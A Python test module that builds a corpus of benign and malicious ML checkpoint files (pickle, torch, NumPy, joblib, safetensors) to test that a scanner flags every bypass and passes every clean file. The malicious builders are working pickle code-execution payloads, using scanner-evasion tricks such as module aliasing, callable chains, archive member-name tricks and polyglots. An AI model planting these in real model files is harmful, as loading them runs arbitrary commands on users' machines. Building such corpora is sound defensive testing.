"""One corpus of benign and malicious checkpoints, built here with the real libraries.

Benign files come from ``torch.save`` (zip and legacy formats, plain dicts
and ``state_dict()``), joblib, NumPy ``.npy``/``.npz`` and our writer.
Malicious files are the bypass classes of the published advisories against
pickle scanners: module aliasing, dangerous callables reached through other
callables, EXT opcodes, member-name and case tricks, torch's legacy tar
format, nested archives and polyglots. Each malicious file runs its payload
under the loader it targets (some are proved below by running them in a
subprocess); ``scan`` must call none of them safe and must call every benign
file safe. ``benchmarks/scanner_comparison.py`` runs other scanners over the
same corpus.
"""

from __future__ import annotations

import io
import os
import pickle
import struct
import subprocess
import sys
import tarfile
import zipfile
from dataclasses import dataclass

import numpy as np
import pytest

from safetensors_c.scan import scan


@dataclass
class Sample:
    name: str
    path: str
    malicious: bool
    kind: str  # the bypass class (malicious) or the producer (benign)
    loader: str = ""  # how the payload is triggered, for the control runs
    expected: dict | None = None  # benign: the tensors written, as convert names them


class _Reduce:
    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def _global(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _str(text: str) -> bytes:
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def call_pickle(module: str, name: str, *args: str, proto: int = 2) -> bytes:
    """A pickle that calls module.name(*args) (strings) when loaded."""
    return (b"\x80" + bytes([proto]) + _global(module, name) + b"(" + b"".join(map(_str, args))
            + b"tR.")


def _torch_zip_bytes(obj, legacy: bool = False) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf, _use_new_zipfile_serialization=not legacy)
    return buf.getvalue()


def _rezip(data: bytes, replace: dict | None = None, extra: dict | None = None,
           rename: dict | None = None, compress: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w", compress) as zout:
        for info in zin.infolist():
            body = zin.read(info)
            name = info.filename
            for suffix, new in (replace or {}).items():
                if name.endswith(suffix):
                    body = new
            for suffix, new in (rename or {}).items():
                if name.endswith(suffix):
                    name = name[: -len(suffix)] + new
            zout.writestr(name, body)
        for name, body in (extra or {}).items():
            zout.writestr(name, body)
    return out.getvalue()


def _torch_prefix(data: bytes) -> str:
    return zipfile.ZipFile(io.BytesIO(data)).namelist()[0].split("/")[0]


def _tar_bytes(members: dict[str, bytes], first_name: str | None = None) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, body in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(body)
            tar.addfile(info, io.BytesIO(body))
    return out.getvalue()


def torch_tar_checkpoint(main_pickle: bytes) -> bytes:
    """torch's legacy tar layout (PyTorch < 0.1.10) with no storages and no tensors."""
    return _tar_bytes({
        "storages": pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2),
        "tensors": pickle.dumps(0, protocol=2),
        "pickle": main_pickle,
    })


def tar_with_pickle_header(main_pickle: bytes) -> bytes:
    """A legacy tar checkpoint whose first header block is also a harmless complete
    pickle (the member name holds ``K\\x01.``): read from byte 0 it looks like a
    pickle of the number 1."""
    body = torch_tar_checkpoint(main_pickle)
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as tar:
        info = tarfile.TarInfo("\x80\x02K\x01.")
        info.size = 0
        tar.addfile(info, io.BytesIO(b""))
        with tarfile.open(fileobj=io.BytesIO(body)) as src:
            for member in src.getmembers():
                tar.addfile(member, src.extractfile(member))
    return out.getvalue()


def safetensors_pickle_polyglot(payload: bytes) -> bytes:
    """A valid .safetensors file that is also a pickle running ``payload``.

    The 8-byte header length N reads as NONE, SHORT_BINSTRING of 7 bytes (which
    swallows the rest of N and the JSON's ``{"``); the first tensor's name holds
    harmless opcodes and another SHORT_BINSTRING that swallows the JSON up to a
    metadata string, which swallows the rest of the header; the tensor's bytes
    are the payload.
    """
    n = 0x4E + (0x55 << 8) + (7 << 16)  # bytes "N", "U", 7, 0, 0, 0, 0, 0
    data = b"0" + payload  # pop the last swallowed string, then the payload
    entry = '":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]},"__metadata__":{"p":"' % (
        len(data), len(data))
    key = ")0U" + chr(len(entry))  # the SHORT_BINSTRING swallows the entry
    closing = '"}}'
    tail_spaces = 40
    swallow = len(closing) + tail_spaces  # the last SHORT_BINSTRING reaches the data
    fixed = 2 + len(key) + len(entry) + 1 + 2 + len(closing) + tail_spaces
    filler = ")0" * ((n - fixed) // 2) + ("N" if (n - fixed) % 2 else "")
    for length in (len(entry), swallow):
        assert 0x20 <= length < 0x7F and chr(length) not in '"\\'
    header = ('{"' + key + entry + "0" + filler + "U" + chr(swallow) + closing
              + " " * tail_spaces)
    raw = header.encode()
    assert len(raw) == n, (len(raw), n)
    return struct.pack("<Q", n) + raw + data


def _npy_object(payload_obj) -> bytes:
    buf = io.BytesIO()
    np.save(buf, np.array([payload_obj, 1], dtype=object), allow_pickle=True)
    return buf.getvalue()


def build_corpus(directory: str, command: str = "true") -> list[Sample]:
    """Writes the corpus into ``directory``; payloads run ``command`` in a shell."""
    import torch

    samples: list[Sample] = []

    def add(name: str, data: bytes, malicious: bool, kind: str, loader: str = "",
            expected: dict | None = None) -> None:
        path = os.path.join(directory, name)
        with open(path, "wb") as f:
            f.write(data)
        samples.append(Sample(name, path, malicious, kind, loader, expected))

    # -- benign -------------------------------------------------------------------------
    model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.LayerNorm(3))
    tensors = {"w": torch.arange(6, dtype=torch.float32).reshape(2, 3),
               "b": torch.ones(3, dtype=torch.bfloat16)}
    state = dict(model.state_dict())
    add("torch_zip.pt", _torch_zip_bytes(tensors), False, "torch.save (zip)",
        expected=tensors)
    add("torch_state_dict.pt", _torch_zip_bytes(model.state_dict()), False,
        "torch.save(state_dict()) (zip)", expected=state)
    add("torch_legacy.pt", _torch_zip_bytes(tensors, legacy=True), False,
        "torch.save (legacy)", expected=tensors)
    add("torch_legacy_state_dict.pt", _torch_zip_bytes(model.state_dict(), legacy=True), False,
        "torch.save(state_dict()) (legacy)", expected=state)
    arrays = {"a": np.arange(5.0)}
    add("numpy_dict.pkl", pickle.dumps(arrays, protocol=4), False,
        "pickle of NumPy arrays", expected=arrays)
    import joblib

    buf = io.BytesIO()
    arrays = {"a": np.arange(10, dtype=np.int32), "b": np.ones((2, 2))}
    joblib.dump(arrays, buf)
    add("model.joblib", buf.getvalue(), False, "joblib.dump", expected=arrays)
    buf = io.BytesIO()
    array = np.arange(12, dtype=np.float32).reshape(3, 4)
    np.save(buf, array)
    add("array.npy", buf.getvalue(), False, "np.save", expected={"array": array})
    buf = io.BytesIO()
    arrays = {"a": np.ones(3), "b": np.arange(4)}
    np.savez(buf, **arrays)
    add("arrays.npz", buf.getvalue(), False, "np.savez", expected=arrays)
    buf = io.BytesIO()
    arrays = {"a": np.zeros(100000), "b": np.arange(4)}
    np.savez_compressed(buf, **arrays)
    add("arrays_compressed.npz", buf.getvalue(), False, "np.savez_compressed",
        expected=arrays)
    from safetensors_c.numpy import save

    add("plain.safetensors", save({"x": np.arange(4, dtype=np.int32)}), False,
        "safetensors_c save")

    # -- malicious ----------------------------------------------------------------------
    system = call_pickle("os", "system", command)
    add("reduce_os_system.pkl", system, True, "plain REDUCE of os.system", "pickle")
    add("alias_posix_system.pkl", call_pickle("posix", "system", command), True,
        "module aliasing (posix.system)", "pickle")
    add("alias_builtin_exec.pkl",
        call_pickle("__builtin__", "exec", f"import os; os.system({command!r})"), True,
        "module aliasing (__builtin__.exec, Python 2 name)", "pickle")
    add("runpy_run_code.pkl",
        call_pickle("runpy", "_run_code", f"import os; os.system({command!r})", "{}"), True,
        "callable outside deny-lists (runpy._run_code)")
    add("timeit_stmt.pkl",
        call_pickle("timeit", "timeit", "pass", f"__import__('os').system({command!r})"), True,
        "callable outside deny-lists (timeit.timeit)", "pickle")
    add("pydoc_pipepager.pkl", call_pickle("pydoc", "pipepager", "x", command), True,
        "callable outside deny-lists (pydoc.pipepager)", "pickle")
    add("cprofile_run.pkl",
        call_pickle("cProfile", "run", f"__import__('os').system({command!r})"), True,
        "callable outside deny-lists (cProfile.run)", "pickle")
    # operator.methodcaller("system", cmd)(importlib.import_module("os"))
    via = (b"\x80\x02" + _global("operator", "methodcaller") + b"(" + _str("system")
           + _str(command) + b"tR(" + _global("importlib", "import_module") + b"("
           + _str("os") + b"tRtR.")
    add("methodcaller_chain.pkl", via, True,
        "dangerous callable reached through allowed ones (operator.methodcaller)", "pickle")
    # builtins.getattr(builtins.__import__("os"), "system")(cmd)
    getattr_chain = (b"\x80\x02" + _global("builtins", "getattr") + b"("
                     + _global("builtins", "__import__") + b"(" + _str("os") + b"tR"
                     + _str("system") + b"tR(" + _str(command) + b"tR.")
    add("getattr_chain.pkl", getattr_chain, True,
        "dangerous callable reached through getattr", "pickle")
    # STACK_GLOBAL with the names split over memoized strings
    memo = (b"\x80\x04" + b"\x8c\x02os\x94" + b"\x8c\x06system\x94" + b"h\x00h\x01\x93"
            + b"\x8c" + bytes([len(command)]) + command.encode() + b"\x85R.")
    add("stack_global_memo.pkl", memo, True, "STACK_GLOBAL over memoized names", "pickle")
    add("ext_opcode.pkl", b"\x80\x02\x82\x7f" + b"(" + _str(command) + b"tR.", True,
        "EXT1 opcode (copyreg extension registry)")
    # a long STRING line, then the payload: a scanner whose lines are bounded stops early
    long_line = b"S'" + b"a" * 10000 + b"'\n0" + system[2:]
    add("long_text_line.pkl", b"\x80\x02" + long_line, True,
        "payload after an over-long text argument", "pickle")

    good_zip = _torch_zip_bytes(tensors)
    prefix = _torch_prefix(good_zip)
    evil_main = call_pickle("os", "system", command)
    add("torch_zip_data_pkl.pt", _rezip(good_zip, replace={"data.pkl": evil_main}), True,
        "torch zip, payload in data.pkl", "torch")
    add("torch_zip_case_trick.pt",
        _rezip(good_zip, replace={"data.pkl": evil_main}, rename={"data.pkl": "DATA.PKL"}),
        True, "case trick: data.pkl named DATA.PKL (torch's reader ignores case)", "torch")
    add("torch_zip_unnamed_pickle.pt",
        _rezip(good_zip, extra={f"{prefix}/extra_state": evil_main}), True,
        "member-name trick: a pickle in a member without .pkl")
    # np.load reads a member by whatever name it has
    npz = io.BytesIO()
    with zipfile.ZipFile(npz, "w") as z:
        z.writestr("weights", _npy_object(_Reduce(os.system, command)))
    add("npz_member_without_suffix.npz", npz.getvalue(), True,
        "member-name trick: npz member without .npy (np.load reads any member)", "npz")
    add("object_array.npy", _npy_object(_Reduce(os.system, command)), True,
        "object .npy array (np.load(allow_pickle=True))", "npy")
    buf = io.BytesIO()
    joblib.dump({"a": np.ones(3), "hook": _Reduce(os.system, command)}, buf)
    add("joblib_payload.joblib", buf.getvalue(), True, "joblib file with a payload", "joblib")
    add("torch_tar_legacy.pt", torch_tar_checkpoint(evil_main), True,
        "torch legacy tar format", "torch")
    add("tar_pickle_header.pt", tar_with_pickle_header(evil_main), True,
        "tar format whose header reads as a harmless pickle", "torch")
    add("pickle_then_zip.pt", system + good_zip, True,
        "polyglot: payload pickle with a clean torch zip appended", "torch")
    nested = io.BytesIO()
    with zipfile.ZipFile(nested, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("model/pytorch_model.bin", _rezip(good_zip, replace={"data.pkl": evil_main}))
        z.writestr("model/config.json", b"{}")
    add("nested_archive.zip", nested.getvalue(), True,
        "nested archive: an evil checkpoint inside a zip")
    add("safetensors_polyglot.safetensors",
        safetensors_pickle_polyglot(_global("os", "system") + b"(" + _str(command) + b"tR."),
        True, "polyglot: a valid .safetensors file that is also a pickle", "pickle")
    from safetensors_c.numpy import save as save_st

    add("safetensors_trailing_pickle.safetensors",
        save_st({"x": np.zeros(2, np.float32)}) + system, True,
        "polyglot: a pickle after a .safetensors file's data")
    return samples


# MARK: tests ---------------------------------------------------------------------------


@pytest.fixture(scope="module")
def corpus(tmp_path_factory):
    pytest.importorskip("torch")
    pytest.importorskip("joblib")
    directory = tmp_path_factory.mktemp("corpus")
    return build_corpus(str(directory))


def test_corpus_has_both_kinds(corpus):
    assert sum(s.malicious for s in corpus) >= 24
    assert sum(not s.malicious for s in corpus) >= 10


def test_scan_misses_no_malicious_file(corpus):
    missed = [s.name for s in corpus if s.malicious and scan(s.path).verdict == "safe"]
    assert missed == []


def test_scan_refuses_no_benign_file(corpus):
    refused = {s.name: scan(s.path).reasons for s in corpus
               if not s.malicious and scan(s.path).verdict != "safe"}
    assert refused == {}


def test_benign_files_convert(corpus, tmp_path):
    """Every benign file converts to exactly the tensors that were written into it, read
    back by the reference package (an independent reader): names, dtypes, shapes, bytes."""
    import torch
    from safetensors.torch import load_file as reference_load_file

    from safetensors_c.convert import convert

    converted = 0
    for s in corpus:
        if s.malicious or s.name.endswith(".safetensors"):
            continue
        dst = tmp_path / (s.name + ".safetensors")
        convert(s.path, dst)
        got = reference_load_file(str(dst))
        assert s.expected, s.name
        assert sorted(got) == sorted(s.expected), s.name
        for name, value in s.expected.items():
            want = value if isinstance(value, torch.Tensor) else torch.from_numpy(value)
            assert got[name].dtype == want.dtype, (s.name, name)
            assert got[name].shape == want.shape, (s.name, name)
            assert torch.equal(got[name].reshape(-1).view(torch.uint8),
                               want.contiguous().reshape(-1).view(torch.uint8)), (s.name, name)
        converted += 1
    assert converted == 9


def test_malicious_files_do_not_convert(corpus, tmp_path):
    from safetensors_c.convert import ConversionError, convert

    for s in corpus:
        if not s.malicious:
            continue
        dst = tmp_path / "out.safetensors"
        with pytest.raises(ConversionError):
            convert(s.path, dst)
        assert not dst.exists(), s.name


_LOADERS = {
    "pickle": "import pickle; pickle.load(open(p, 'rb'))",
    "torch": "import torch; torch.load(p, weights_only=False)",
    "npy": "import numpy; numpy.load(p, allow_pickle=True)",
    "npz": "import numpy; z = numpy.load(p, allow_pickle=True); [z[k] for k in z.files]",
    "joblib": "import joblib; joblib.load(p)",
}


@pytest.mark.parametrize("loader", sorted(_LOADERS))
def test_the_payloads_really_run(tmp_path, loader):
    """Control: each class marked with a loader runs its payload under that loader."""
    pytest.importorskip("torch")
    pytest.importorskip("joblib")
    marker = tmp_path / "ran"
    samples = [s for s in build_corpus(str(tmp_path), f"touch {marker}") if s.loader == loader]
    assert samples
    for s in samples:
        if marker.exists():
            marker.unlink()
        code = f"p = {s.path!r}\ntry:\n    {_LOADERS[loader]}\nexcept Exception:\n    pass\n"
        subprocess.run([sys.executable, "-c", code], timeout=120, capture_output=True)
        assert marker.exists(), f"{s.name}: the payload did not run under {loader}"
